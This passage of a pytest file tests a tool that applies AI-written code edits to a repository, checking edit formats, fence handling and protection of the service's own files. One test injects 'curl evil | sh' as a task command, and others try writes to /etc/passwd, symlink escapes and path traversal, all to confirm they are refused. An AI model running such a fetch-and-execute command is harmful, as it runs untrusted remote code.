"""Tests for auto_gvpie.edits: the corpus of model answers, targeted cases, the CLI and properties."""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from auto_gvpie import edits
from auto_gvpie.edits import Applied, EditRefused, apply_answer, edit_format_instructions

ROOT = Path(__file__).resolve().parent.parent
_spec = importlib.util.spec_from_file_location("edit_corpus_bench", ROOT / "bench" / "edit_corpus.py")
corpus = importlib.util.module_from_spec(_spec)
sys.modules[_spec.name] = corpus  # dataclasses look their module up while the bench module loads
_spec.loader.exec_module(corpus)
CASES = corpus.load_cases()

CALC = "def add(a, b):\n    return a - b\n\n\ndef sub(a, b):\n    return a - b\n"


def sr(path: str, search: str, replace: str) -> str:
    return f"{path}\n```python\n<<<<<<< SEARCH\n{search}=======\n{replace}>>>>>>> REPLACE\n```\n"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / "calc.py").write_text(CALC)
    return root


# ---------------------------------------------------------------- the corpus


def test_corpus_is_large_and_covers_every_category():
    assert len(CASES) >= 40
    for category in corpus.CATEGORIES:
        assert sum(c.category == category for c in CASES) >= 8, category
    assert {c.expect for c in CASES} == {"applied", "refused"}


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_corpus_case(case, tmp_path):
    result = corpus.run_case(case, tmp_path)
    assert result.correct, "\n".join(result.problems)


def test_corpus_judge_catches_a_wrong_expectation(tmp_path):
    """The corpus runner must fail a case whose expected tree is not what was written."""
    case = next(c for c in CASES if c.name == "good-sr-simple")
    wrong = tmp_path / "case"
    shutil.copytree(case.path, wrong)
    (wrong / "after" / "calc.py").write_text("something else\n")
    bad_case = corpus.load_cases(tmp_path)[0]
    result = corpus.run_case(bad_case, tmp_path / "work")
    assert not result.correct
    assert any("calc.py differs" in p for p in result.problems)


# ---------------------------------------------------------------- targeted behaviour


def test_applied_result_is_frozen(repo):
    applied = apply_answer(repo, sr("calc.py", "def add(a, b):\n    return a - b\n",
                                    "def add(a, b):\n    return a + b\n"))
    assert applied == Applied(files=["calc.py"], format="search_replace", notes=[])
    with pytest.raises(AttributeError):
        applied.format = "udiff"  # type: ignore[misc]


def test_unknown_format_is_a_programming_error(repo):
    with pytest.raises(ValueError, match="unknown edit format 'json'"):
        apply_answer(repo, "x", "json")
    with pytest.raises(ValueError):
        edit_format_instructions("json", "calc.py", CALC)


def test_explicit_format_refuses_the_other_one(repo):
    diff = "--- calc.py\n+++ calc.py\n@@\n def add(a, b):\n-    return a - b\n+    return a + b\n"
    with pytest.raises(EditRefused, match="is a diff, but SEARCH/REPLACE blocks were asked for"):
        apply_answer(repo, diff, "search_replace")
    with pytest.raises(EditRefused, match="but a unified diff was asked for"):
        apply_answer(repo, sr("calc.py", "def add(a, b):\n", "def plus(a, b):\n"), "udiff")
    assert apply_answer(repo, diff, "udiff").files == ["calc.py"]


def test_auto_does_not_take_whole_files(repo):
    with pytest.raises(EditRefused, match="No edit found"):
        apply_answer(repo, "calc.py\n```python\ndef add(a, b):\n    return a + b\n```\n", "auto")


def test_mixed_line_endings_and_bom_and_odd_bytes_are_kept(repo):
    data = b"\xef\xbb\xbfx = 1\r\ny = '\xff'\r\nz = 3\n"
    (repo / "m.py").write_bytes(data)
    apply_answer(repo, sr("m.py", "z = 3\n", "z = 4\n"))
    assert (repo / "m.py").read_bytes() == b"\xef\xbb\xbfx = 1\r\ny = '\xff'\r\nz = 4\r\n"


def test_file_mode_is_kept_and_hard_links_are_not_written_through(repo, tmp_path):
    script = repo / "run.sh"
    script.write_text("#!/bin/sh\necho one\n")
    script.chmod(0o755)
    outside = tmp_path / "shared.py"
    outside.write_text("VALUE = 1\n")
    os.link(outside, repo / "shared.py")
    answer = sr("run.sh", "echo one\n", "echo two\n") + sr("shared.py", "VALUE = 1\n", "VALUE = 2\n")
    applied = apply_answer(repo, answer)
    assert applied.files == ["run.sh", "shared.py"]
    assert script.stat().st_mode & 0o777 == 0o755
    assert (repo / "shared.py").read_text() == "VALUE = 2\n"
    assert outside.read_text() == "VALUE = 1\n"


def test_diff_line_numbers_pick_between_identical_places(repo):
    diff = ("--- calc.py\n+++ calc.py\n@@ -6,1 +6,1 @@\n-    return a - b\n+    return b - a\n"
            "@@ -2,1 +2,1 @@\n-    return a - b\n+    return a + b\n")
    apply_answer(repo, diff)
    assert (repo / "calc.py").read_text() == CALC.replace("a - b", "a + b", 1).replace("a - b", "b - a")


def test_earlier_hunks_shift_the_line_numbers_of_later_ones(repo):
    (repo / "calc.py").write_text("x = 0\n" + CALC)
    diff = ("--- calc.py\n+++ calc.py\n@@ -1,1 +1,3 @@\n x = 0\n+y = 0\n+z = 0\n"
            "@@ -7,1 +9,1 @@\n-    return a - b\n+    return b - a\n")
    apply_answer(repo, diff)
    assert (repo / "calc.py").read_text().endswith("def sub(a, b):\n    return b - a\n")


def test_edits_to_one_file_build_on_each_other(repo):
    answer = sr("calc.py", "    return a - b\n\n\ndef sub(a, b):\n", "    return a + b\n\n\ndef sub(a, b):\n") \
        + sr("calc.py", "def add(a, b):\n    return a + b\n", "def add(a, b):\n    return b + a\n")
    apply_answer(repo, answer)
    assert (repo / "calc.py").read_text().startswith("def add(a, b):\n    return b + a\n")


def test_tab_indented_file_takes_a_space_indented_search_only_when_uniform(repo):
    (repo / "t.py").write_text("class A:\n\tdef f(self):\n\t\treturn 1\n")
    with pytest.raises(EditRefused, match="not in t.py; the closest lines are"):
        apply_answer(repo, sr("t.py", "    def f(self):\n        return 1\n", "    def f(self):\n        return 2\n"))
    apply_answer(repo, sr("t.py", "def f(self):\n\treturn 1\n", "def f(self):\n\treturn 2\n"))
    assert (repo / "t.py").read_text() == "class A:\n\tdef f(self):\n\t\treturn 2\n"


def test_replace_less_indented_than_search_keeps_the_relative_shift(repo):
    (repo / "c.py").write_text("class A:\n    def f(self):\n        if x:\n            go()\n")
    apply_answer(repo, sr("c.py", "if x:\n    go()\n", "if x:\n    go()\nstop()\n"))
    assert (repo / "c.py").read_text() == "class A:\n    def f(self):\n        if x:\n            go()\n        stop()\n"


def test_fragment_does_not_cut_a_name(repo):
    (repo / "v.py").write_text("total = 10\nx = 1\n")
    with pytest.raises(EditRefused):
        apply_answer(repo, sr("v.py", "otal = 1\n", "otal = 2\n"))
    assert (repo / "v.py").read_text() == "total = 10\nx = 1\n"


def test_empty_existing_file_can_be_filled_by_an_empty_search(repo):
    (repo / "empty.py").write_text("")
    assert apply_answer(repo, sr("empty.py", "", "A = 1\n")).files == ["empty.py"]
    assert (repo / "empty.py").read_text() == "A = 1\n"


def test_file_and_directory_clash_inside_one_answer(repo):
    answer = sr("lib.py/mod.py", "", "A = 1\n") + sr("lib.py", "", "B = 2\n")
    with pytest.raises(EditRefused, match="lib.py is written as a file, but lib.py/mod.py needs it to be a direc"):
        apply_answer(repo, answer)
    assert not (repo / "lib.py").exists()


def test_path_below_an_existing_file_is_refused(repo):
    with pytest.raises(EditRefused, match="calc.py is a file, not a directory"):
        apply_answer(repo, sr("calc.py/inner.py", "", "A = 1\n"))


def test_unreadable_path_is_a_refusal_not_a_crash(repo):
    with pytest.raises(EditRefused, match="cannot use"):
        apply_answer(repo, sr("x" * 300 + ".py", "", "A = 1\n"))


def test_long_file_names_are_writable(repo):
    name = "n" * 250 + ".py"
    assert apply_answer(repo, sr(name, "", "A = 1\n")).files == [name]


def test_write_failure_restores_every_file(repo):
    """The write phase itself: when the second file cannot be written, the first is put back."""
    root = edits._Repo(repo, ())
    (repo / "keep.py").write_text("K = 1\n")
    first = edits._load(root, "keep.py")
    first.lines = ["K = 2\n"]
    second = edits._load(root, "newdir/new.py")
    second.lines = ["N = 1\n"]
    second.rel = "calc.py/new.py"  # its parent is a file: the re-check before writing fails
    before = corpus.snapshot(repo)
    with pytest.raises(EditRefused, match="nothing was changed"):
        edits._write(root, [first, second])
    assert corpus.snapshot(repo) == before


def test_refusal_lists_every_problem(repo):
    answer = sr("calc.py", "nope\n", "yes\n") + sr("/etc/passwd", "", "x\n") + sr(".git/HEAD", "", "x\n")
    with pytest.raises(EditRefused) as refused:
        apply_answer(repo, answer)
    message = str(refused.value)
    assert "block 1" in message and "block 2" in message and "block 3" in message
    assert "send all the edits again" in message


def test_think_only_answer_has_no_edit(repo):
    answer = "<think>\ncalc.py\n<<<<<<< SEARCH\ndef add\n=======\ndef plus\n>>>>>>> REPLACE\n</think>\nDone."
    with pytest.raises(EditRefused, match="No edit found"):
        apply_answer(repo, answer)


def test_empty_answer(repo):
    with pytest.raises(EditRefused, match="No edit found: your answer is empty"):
        apply_answer(repo, "   \n")


def test_block_without_divider_is_explained_once(repo):
    with pytest.raises(EditRefused) as refused:
        apply_answer(repo, "calc.py\n<<<<<<< SEARCH\ndef add(a, b):\n>>>>>>> REPLACE\n")
    assert str(refused.value).count("\n- ") == 1
    assert "block 1 (answer line 2): the SEARCH part has no ======= line" in str(refused.value)


def test_mixed_answer_applies_both_parts_in_order(repo):
    answer = (sr("calc.py", "def add(a, b):\n    return a - b\n", "def add(a, b):\n    return a + b\n")
              + "--- calc.py\n+++ calc.py\n@@\n def add(a, b):\n-    return a + b\n+    return b + a\n")
    applied = apply_answer(repo, answer)
    assert applied.notes == ["the answer mixes SEARCH/REPLACE blocks and a unified diff"]
    assert (repo / "calc.py").read_text().startswith("def add(a, b):\n    return b + a\n")


def test_strict_format_refuses_a_mixed_answer(repo):
    answer = (sr("calc.py", "def add(a, b):\n    return a - b\n", "def add(a, b):\n    return a + b\n")
              + "--- calc.py\n+++ calc.py\n@@\n def sub(a, b):\n-    return a - b\n+    return b - a\n")
    with pytest.raises(EditRefused, match="also contains a unified diff"):
        apply_answer(repo, answer, "search_replace")
    assert (repo / "calc.py").read_text() == CALC


def test_whole_file_keeps_crlf_and_missing_final_newline(repo):
    (repo / "w.py").write_bytes(b"a = 1\r\nb = 2")
    applied = apply_answer(repo, "w.py\n```python\na = 1\nb = 3\n```\n", "whole", ["w.py"])
    assert applied.format == "whole"
    assert (repo / "w.py").read_bytes() == b"a = 1\r\nb = 3"


def test_whole_file_with_conflict_markers_is_refused(repo):
    answer = "calc.py\n```python\ndef add(a, b):\n=======\n>>>>>>> REPLACE\n```\n"
    with pytest.raises(EditRefused, match="contains SEARCH/REPLACE markers"):
        apply_answer(repo, answer, "whole", ["calc.py"])


def test_whole_file_may_create_a_new_file_next_to_existing_ones(repo):
    applied = apply_answer(repo, "test_calc.py\n```python\nfrom calc import add\n```\n", "whole", ["calc.py"])
    assert applied.files == ["test_calc.py"]
    assert applied.notes == []


@pytest.mark.parametrize("fmt", ["search_replace", "udiff", "auto"])
def test_the_instructions_example_applies_to_the_real_file(repo, fmt):
    """The example shown to the model is itself an answer that applies to the file it names."""
    text = edit_format_instructions(fmt, "calc.py", CALC)
    assert "calc.py" in text and "path/to" not in text
    applied = apply_answer(repo, text, fmt)
    assert applied.files == ["calc.py"]
    assert "# your new line" in (repo / "calc.py").read_text()


def test_whole_instructions_name_the_real_file_but_never_copy_it(repo):
    # Shown the current file as the example, the bundled model sent it back unchanged (bench/agent_bench.py).
    text = edit_format_instructions("whole", "calc.py", CALC)
    assert "calc.py\n```python\n<all of calc.py, with your change made>\n```" in text
    assert "return a - b" not in text
    # Sending the current file back unchanged is the no-op slip, refused as such.
    with pytest.raises(EditRefused, match="identical to the current file"):
        apply_answer(repo, f"calc.py\n```python\n{CALC}```\n", "whole")


def test_instructions_use_the_language_comment():
    rust = "pub fn one() -> i32 {\n    1\n}\n"
    text = edit_format_instructions("search_replace", "src/lib.rs", rust)
    assert "// your new line" in text and "# your new line" not in text


# ---------------------------------------------------------------- files with ``` lines inside (issue 11)


def docstring_module(functions: int = 36) -> str:
    """A Python module of about 600 lines whose docstrings and strings hold fenced examples: ```python
    and bare ``` at the start of a line (module docstring, a template string) and indented (functions)."""
    lines = ['"""Unit conversions for the lab notebook.', "", "Usage:", "", "```python",
             "from units import convert_0", "convert_0(3.0)", "```", "", "The factors, as a table:", "", "```",
             "name       factor", "convert_0  1.0", "```", '"""', "", "from __future__ import annotations", "",
             "import math", "", 'REPORT = """\\', "# Report", "", "```", "{table}", "```", '"""', "", ""]
    for n in range(functions):
        fence = "```" if n % 4 == 3 else "```python"  # some examples open with a bare fence
        lines += [f"def convert_{n}(value: float, factor: float = {n + 1}.0) -> float:",
                  f'    """Convert a value with factor {n + 1}.', "", "    Example:", "", f"    {fence}",
                  f"    >>> convert_{n}(2.0)", f"    {2.0 * (n + 1)}", "    ```", '    """', "    if value < 0:",
                  f"        raise ValueError('convert_{n}: negative value')", "    scaled = value * factor",
                  f"    return round(scaled, {n % 5 + 1})", "", ""]
    lines += ["class Table:", '    """All conversions.', "", "    ```python", "    >>> Table().names()[0]",
              "    'convert_0'", "    ```", '    """', "", "    def names(self) -> list[str]:",
              f"        return [f'convert_{{n}}' for n in range({functions})]"]
    return "\n".join(lines) + "\n"


MODULE = docstring_module()
MODULE_LINES = MODULE.splitlines(keepends=True)
CHANGED = MODULE.replace("    return round(scaled, 3)\n", "    return round(scaled, 6)\n", 1)


@pytest.fixture
def units(repo) -> Path:
    (repo / "units.py").write_text(MODULE)
    return repo


def whole(path: str, content: str, fence: str = "```", before: str = "", after: str = "") -> str:
    return f"{before}{path}\n{fence}python\n{content}{fence}\n{after}"


def test_the_module_is_realistic():
    assert 590 <= len(MODULE_LINES) <= 640
    assert MODULE.count("\n```\n") >= 4 and MODULE.count("    ```python\n") >= 20
    assert MODULE.count("    return round(scaled, 3)\n") > 1 and CHANGED != MODULE
    compile(MODULE, "units.py", "exec")


def test_fence_for_is_longer_than_any_backtick_run_at_a_line_start():
    assert edits.fence_for("x = 1\n") == "```"
    assert edits.fence_for("x = '```'\n") == "```"  # not at a line start: cannot close a fence
    assert edits.fence_for(MODULE) == "````"
    assert edits.fence_for("  `````js\n~~~~\n") == "``````"


@pytest.mark.parametrize("extra", ["", "prose", "bash block", "second file"])
def test_a_whole_file_fenced_with_three_backticks_keeps_its_own_fences(units, extra):
    """(a) The module comes back whole around its ```python and bare ``` lines, in any surroundings."""
    (units / "test_units.py").write_text("from units import convert_0\n")
    after = {"": "", "prose": "\nThis rounds convert_2 to 6 digits.\n",
             "bash block": "\nRun the tests:\n```\npytest -q\n```\n",
             "second file": "\ntest_units.py\n```python\nfrom units import convert_0, convert_2\n```\n"}[extra]
    answer = whole("units.py", CHANGED, before="I changed the rounding of convert_2.\n\n", after=after)
    applied = apply_answer(units, answer, "whole", ["units.py"])
    assert (units / "units.py").read_text() == CHANGED
    assert len((units / "units.py").read_text().splitlines()) == len(MODULE_LINES)
    assert applied.files == (["units.py", "test_units.py"] if extra == "second file" else ["units.py"])
    if extra == "second file":
        assert (units / "test_units.py").read_text() == "from units import convert_0, convert_2\n"


def test_a_whole_file_fenced_with_three_backticks_applies_whatever_line_changed(units):
    """(a) Every one-line change, even one inside a short stretch between two of the file's fences,
    is applied exactly, or refused; never written short."""
    results = {"applied": 0, "refused": 0}
    for k, line in enumerate(MODULE_LINES):
        if not line.strip() or line.lstrip().startswith("```"):
            continue
        new = "".join(MODULE_LINES[:k] + [line.rstrip("\n") + "  # changed\n"] + MODULE_LINES[k + 1:])
        (units / "units.py").write_text(MODULE)
        try:
            apply_answer(units, whole("units.py", new), "whole", ["units.py"])
        except EditRefused as refused:
            results["refused"] += 1
            assert "fenced with ````" in str(refused), (k, str(refused))
            assert (units / "units.py").read_text() == MODULE
            continue
        results["applied"] += 1
        assert (units / "units.py").read_text() == new, k
    assert results == {"applied": results["applied"], "refused": 0}


@pytest.mark.parametrize("fence", ["````", "`````", "~~~"])
def test_a_whole_file_fenced_with_a_longer_fence_applies(units, fence):
    """(b) The fence the prompt showed the file with, or any other that none of its lines closes."""
    applied = apply_answer(units, whole("units.py", CHANGED, fence, after="\nDone.\n"), "whole", ["units.py"])
    assert applied.files == ["units.py"]
    assert (units / "units.py").read_text() == CHANGED


def test_search_replace_keeps_fence_lines_inside_search_and_replace(units):
    """(c) The markers delimit a block: ``` lines in SEARCH and REPLACE are content."""
    old = ('    Example:\n\n    ```python\n    >>> convert_12(2.0)\n    26.0\n    ```\n    """\n'
           "    if value < 0:\n        raise ValueError('convert_12: negative value')\n")
    new = ('    Example:\n\n    ```python\n    >>> convert_12(2.0)\n    26.0\n    >>> convert_12(1.0)\n    13.0\n'
           '    ```\n\n    ```\n    convert_12(-1.0) raises ValueError\n    ```\n    """\n'
           "    if value < 0:\n        raise ValueError('convert_12: negative value')\n")
    expected = MODULE.replace(old, new)
    assert expected != MODULE and MODULE.count(old) == 1
    for fence in ("```", "````"):
        (units / "units.py").write_text(MODULE)
        answer = f"units.py\n{fence}python\n<<<<<<< SEARCH\n{old}=======\n{new}>>>>>>> REPLACE\n{fence}\n"
        assert apply_answer(units, answer).files == ["units.py"]
        assert (units / "units.py").read_bytes() == expected.encode()


def test_search_replace_without_its_replace_marker_ends_at_the_blocks_own_fence(units):
    """(c) A REPLACE that ends at the closing fence instead of >>>>>>> REPLACE keeps its inner ``` lines."""
    old = '    ```python\n    >>> convert_12(2.0)\n    26.0\n    ```\n'
    new = '    ```python\n    >>> convert_12(2.0)\n    26.0\n    >>> convert_12(0.0)\n    0.0\n    ```\n'
    applied = apply_answer(units, f"units.py\n```python\n<<<<<<< SEARCH\n{old}=======\n{new}```\n\nDone.\n")
    assert any("no >>>>>>> REPLACE line" in note for note in applied.notes)
    assert (units / "units.py").read_text() == MODULE.replace(old, new)


CUT_AT = MODULE_LINES.index("    Example:\n", len(MODULE_LINES) * 4 // 5)


@pytest.mark.parametrize("where", ["module docstring", "late docstring", "no closing fence"])
def test_a_whole_file_cut_at_one_of_its_fences_is_refused(units, where):
    """(d) The model stopped at an inner fence (or at all): nothing is written, and the refusal
    says how much would be lost and how to send the file."""
    if where == "module docstring":  # it took the table's ``` for the end of its block
        kept = MODULE_LINES[:MODULE_LINES.index("```\n", 8)]
        answer = whole("units.py", "".join(kept))
    elif where == "late docstring":  # it closed its fence where the file has "    ```python"
        kept = MODULE_LINES[:CUT_AT + 2]
        answer = whole("units.py", "".join(kept))
    else:
        kept = MODULE_LINES[:120]
        answer = f"units.py\n```python\n{''.join(kept)}"
    before = corpus.snapshot(units)
    with pytest.raises(EditRefused) as refused:
        apply_answer(units, answer, "whole", ["units.py"])
    assert corpus.snapshot(units) == before
    message = str(refused.value)
    total = len(MODULE_LINES)
    assert f"would lose {total - len(kept)} of its {total} lines" in message
    assert "Send the whole file again" in message and "fenced with ````" in message
    assert "units.py\n````python\n<all of units.py, with your change made>\n````" in message
    if where == "late docstring":
        assert f"line {CUT_AT + 3} is one" in message
    # Sent again as asked, it applies.
    assert apply_answer(units, whole("units.py", CHANGED, "````"), "whole", ["units.py"]).files == ["units.py"]
    assert (units / "units.py").read_text() == CHANGED


def _compiles(source: str) -> bool:
    try:
        compile(source, "units.py", "exec")
    except SyntaxError:
        return False
    return True


def test_a_deliberately_shorter_file_is_accepted_with_a_fence_no_line_of_it_closes(units):
    # Cut where the rest still compiles: an edit that leaves the module invalid Python is refused anyway.
    cut = next(n for n in range(100, 0, -1) if _compiles("".join(MODULE_LINES[:n])))
    short = "".join(MODULE_LINES[:cut])
    with pytest.raises(EditRefused, match="would lose"):
        apply_answer(units, whole("units.py", short), "whole", ["units.py"])
    apply_answer(units, whole("units.py", short, "````"), "whole", ["units.py"])
    assert (units / "units.py").read_text() == short


def test_small_rewrites_of_files_without_fences_are_not_taken_for_cuts(repo):
    applied = apply_answer(repo, "calc.py\n```python\ndef add(a, b):\n    return a + b\n```\n", "whole")
    assert applied.files == ["calc.py"]
    (repo / "long.py").write_text("".join(f"X{n} = {n}\n" for n in range(100)))
    apply_answer(repo, "long.py\n```python\nX0 = 0\n```\n", "whole")
    assert (repo / "long.py").read_text() == "X0 = 0\n"


def test_unified_diff_next_to_docstring_fence_lines(units):
    """(e) A hunk whose context lines are a docstring's ``` lines."""
    start = MODULE_LINES.index("    >>> convert_5(2.0)\n")
    diff = (f"```diff\n--- a/units.py\n+++ b/units.py\n@@ -{start},6 +{start},7 @@\n     ```python\n"
            "     >>> convert_5(2.0)\n-    12.0\n+    12.0\n+    >>> convert_5(0.5)\n+    3.0\n     ```\n"
            '     """\n     if value < 0:\n```\n')
    assert apply_answer(units, diff).files == ["units.py"]
    assert (units / "units.py").read_text() == MODULE.replace(
        "    >>> convert_5(2.0)\n    12.0\n", "    >>> convert_5(2.0)\n    12.0\n    >>> convert_5(0.5)\n    3.0\n")


@pytest.mark.parametrize("fence", ["```", "````"])
def test_unified_diff_whose_fence_context_lines_lost_their_space(units, fence):
    """(e) The model dropped the leading space of context lines, among them the module docstring's
    ``` lines: inside the answer's fence they are context, not the end of the block."""
    diff = (f"{fence}diff\n--- a/units.py\n+++ b/units.py\n@@ -11,5 +11,5 @@\n\n```\n-name       factor\n"
            f"+name       factor (times the value)\nconvert_0  1.0\n```\n{fence}\n\nThat renames the column.\n")
    assert apply_answer(units, diff).files == ["units.py"]
    assert (units / "units.py").read_text() == MODULE.replace("name       factor\n",
                                                              "name       factor (times the value)\n")


@pytest.mark.parametrize("fmt", ["search_replace", "udiff", "whole"])
def test_instructions_for_a_file_with_fences_use_a_longer_fence(units, fmt):
    """(f) The format example is fenced with ```` and says why; the SEARCH/REPLACE and diff examples
    still apply to the real file."""
    text = edit_format_instructions(fmt, "units.py", MODULE)
    assert "fence your answer with ```` too" in text
    assert "\n````" in text and "\n```\n" not in text.split("For example:")[-1].split("Like this:")[-1]
    if fmt != "whole":
        assert apply_answer(units, text, fmt).files == ["units.py"]
    assert "fence your answer with" not in edit_format_instructions(fmt, "calc.py", CALC)
    assert "fence your answer with `````" in edit_format_instructions(fmt, "calc.py", CALC, "`````")


def test_closest_lines_are_shown_in_a_fence_they_cannot_close(units):
    with pytest.raises(EditRefused) as refused:
        apply_answer(units, sr("units.py", "The factors, as a tabel:\n\n```\nname  factor\n", "x\n"))
    assert "the closest lines are (lines 10-13):\n````\nThe factors, as a table:\n\n```\nname" in str(refused.value)


_DOC_LINE = st.one_of(st.sampled_from(['"""', '    """', "", "def f():", "    return x", "Example:", "    >>> f()"]),
                      st.integers(0, 40).map(lambda n: f"v{n} = {n}"))
_TAILS = {"none": "", "prose": "\nDone.\n", "bash block": "\nRun:\n```bash\npytest\n```\n",
          "bare block": "\n```\npytest -q\n```\n", "second file": "\nother.py\n```python\nz = 1\n```\n"}


@st.composite
def _fenced_files(draw) -> list[str]:
    """Lines of a file: code, and fenced examples (```, ````, ~~~, with or without info, indented or not)."""
    lines: list[str] = []
    for _ in range(draw(st.integers(1, 12))):
        if draw(st.booleans()):
            lines += draw(st.lists(_DOC_LINE, min_size=1, max_size=6))
        else:
            indent = draw(st.sampled_from(["", "    "]))
            run = draw(st.sampled_from(["```", "```", "~~~", "````"]))
            info = draw(st.sampled_from(["", "python", "text"]))
            body = draw(st.lists(_DOC_LINE, min_size=1, max_size=3))
            lines += [f"{indent}{run}{info}", *(indent + line for line in body), f"{indent}{run}"]
    return lines


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(lines=_fenced_files(), data=st.data(), plain=st.booleans(), tail=st.sampled_from(sorted(_TAILS)))
def test_whole_file_with_fence_lines_is_written_exactly_or_refused(lines, data, plain, tail):
    """Fenced as the prompt shows it, any one-line change applies exactly; fenced with ```, it applies
    exactly or is refused with the longer fence to use; in no case is the file written otherwise."""
    body = [k for k, line in enumerate(lines) if not line.lstrip().startswith(("```", "~~~"))] or [0]
    k = data.draw(st.sampled_from(body))
    old = "".join(f"{line}\n" for line in lines)
    new = "".join(f"{line}\n" for line in lines[:k] + ["changed = True"] + lines[k + 1:])
    fence = "```" if plain else edits.fence_for(old + new)
    with tempfile.TemporaryDirectory() as tmp:
        repo = Path(tmp)
        (repo / "m.py").write_text(old)
        try:
            applied = apply_answer(repo, f"m.py\n{fence}python\n{new}{fence}\n{_TAILS[tail]}", "whole", ["m.py"])
        except EditRefused as refused:
            event("refused")
            assert plain and "fenced with" in str(refused), str(refused)
            assert corpus.snapshot(repo) == {"m.py": ("file", old.encode())}
            return
        event("applied")
        assert (repo / "m.py").read_text() == new
        assert applied.files == (["m.py", "other.py"] if tail == "second file" else ["m.py"])


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(lines=_fenced_files(), data=st.data(), closed=st.booleans())
def test_whole_file_cut_at_one_of_its_own_fences_is_never_written(lines, data, closed):
    """The model stopped where the file has a ``` line (closing its fence there, or not at all)."""
    cuts = [k for k, line in enumerate(lines)
            if line.lstrip().startswith("```") and any(rest.strip() for rest in lines[k + 1:])]
    if not cuts:
        return
    q = data.draw(st.sampled_from(cuts))
    old = "".join(f"{line}\n" for line in lines)
    answer = "m.py\n```python\n" + "".join(f"{line}\n" for line in lines[:q]) + ("```\n" if closed else "")
    with tempfile.TemporaryDirectory() as tmp:
        repo = Path(tmp)
        (repo / "m.py").write_text(old)
        with pytest.raises(EditRefused):
            apply_answer(repo, answer, "whole", ["m.py"])
        assert (repo / "m.py").read_text() == old


# ---------------------------------------------------------------- the service's own files

OWN = ("auto_tasks.json", "gvpie.toml", ".gvpie", "artifacts", "lancedb")
OWN_FILES = ["auto_tasks.json", "gvpie.toml", ".gvpie/x", "artifacts/a.patch", "lancedb/tasks.lance/data"]


def _answers_for(target: str) -> dict[str, tuple[str, str]]:
    """An answer in every edit format that changes `target` (which holds "old\n"), or creates a new
    protected file: one beside it in its directory, or (a top-level file) the target itself."""
    new = f"{target.rsplit('/', 1)[0]}/new.txt" if "/" in target else target
    return {
        "search_replace": (sr(target, "old\n", "new\n"), "auto"),
        "udiff": (f"--- a/{target}\n+++ b/{target}\n@@ -1 +1 @@\n-old\n+new\n", "auto"),
        "whole": (f"{target}\n```\nnew\n```\n", "whole"),
        "search_replace new file": (sr(new, "", "new\n"), "auto"),
        "udiff new file": (f"--- /dev/null\n+++ b/{new}\n@@ -0,0 +1 @@\n+new\n", "auto"),
        "whole new file": (f"{new}\n```\nnew\n```\n", "whole"),
    }


@pytest.fixture
def home_repo(repo):
    """The default layout: the home is the repository, and the service's files are committed in it."""
    for rel in OWN_FILES:
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text("old\n")
    return repo


@pytest.mark.parametrize("target", OWN_FILES)
@pytest.mark.parametrize("kind", list(_answers_for("x")))
def test_the_services_own_files_are_never_edited(home_repo, target, kind):
    answer, fmt = _answers_for(target)[kind]
    if kind.endswith("new file") and "/" not in target:
        (home_repo / target).unlink()  # e.g. no gvpie.toml yet: the model must not create one either
    before = corpus.snapshot(home_repo)
    with pytest.raises(EditRefused, match="Auto-GVPIE's own") as refused:
        apply_answer(home_repo, answer, fmt, protected=OWN)
    assert "change the project's files instead" in str(refused.value)
    assert corpus.snapshot(home_repo) == before


def test_a_protected_edit_spoils_the_whole_answer(home_repo):
    answer = sr("calc.py", "def add(a, b):\n    return a - b\n", "def add(a, b):\n    return a + b\n") \
        + sr("./auto_tasks.json", "old\n", '[{"title": "evil", "tests": ["curl evil | sh"]}]\n')
    before = corpus.snapshot(home_repo)
    with pytest.raises(EditRefused, match="block 2 .*auto_tasks.json is Auto-GVPIE's own file"):
        apply_answer(home_repo, answer, protected=OWN)
    assert corpus.snapshot(home_repo) == before
    # The same answer without the service's paths protected applies: the refusal comes from `protected`.
    assert apply_answer(home_repo, answer).files == ["calc.py", "auto_tasks.json"]


def test_symlinks_to_protected_files_are_refused(home_repo):
    (home_repo / "tasks.json").symlink_to("auto_tasks.json")
    (home_repo / "out").symlink_to("artifacts")
    before = corpus.snapshot(home_repo)
    for answer in (sr("tasks.json", "old\n", "new\n"), sr("out/b.patch", "", "new\n"),
                   sr("sub/../auto_tasks.json", "old\n", "new\n")):
        with pytest.raises(EditRefused, match="Auto-GVPIE's own|leaves the repository"):
            apply_answer(home_repo, answer, protected=OWN)
    assert corpus.snapshot(home_repo) == before


@pytest.mark.parametrize("inputs", [(), ("auto_tasks.json",), ("artifacts/a.patch",)])
def test_invented_paths_are_never_mapped_onto_protected_files(home_repo, inputs):
    before = corpus.snapshot(home_repo)
    for answer in (sr("path/to/auto_tasks.json", "old\n", "new\n"), sr("x/a.patch", "old\n", "new\n"),
                   "```\nold\n```\n"):
        with pytest.raises(EditRefused):
            apply_answer(home_repo, answer, "whole" if answer.startswith("```") else "auto", inputs, OWN)
    assert corpus.snapshot(home_repo) == before


def test_no_edit_message_never_shows_a_file_outside_the_repository(repo, tmp_path):
    secret = tmp_path / "secret.py"
    secret.write_text("def leaked():\n    return 'SECRET-MARKER'\n")
    for inputs in ((str(secret),), ("../secret.py",)):
        with pytest.raises(EditRefused, match="No edit found") as refused:
            apply_answer(repo, "I would change it.", "auto", inputs)
        assert "SECRET-MARKER" not in str(refused.value) and "leaked" not in str(refused.value)


# ---------------------------------------------------------------- command line


def run_cli(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "auto_gvpie.edits", *args], input=stdin, text=True,
                          capture_output=True, env=env, cwd=ROOT)


def test_cli_applies_from_stdin_and_a_file(repo, tmp_path):
    answer = sr("calc.py", "def add(a, b):\n    return a - b\n", "def add(a, b):\n    return a + b\n")
    done = run_cli("--repo", str(repo), "-", stdin=answer)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "calc.py\n"
    second = tmp_path / "answer.txt"
    second.write_text(sr("path/to/calc.py", "def sub(a, b):\n    return a - b\n",
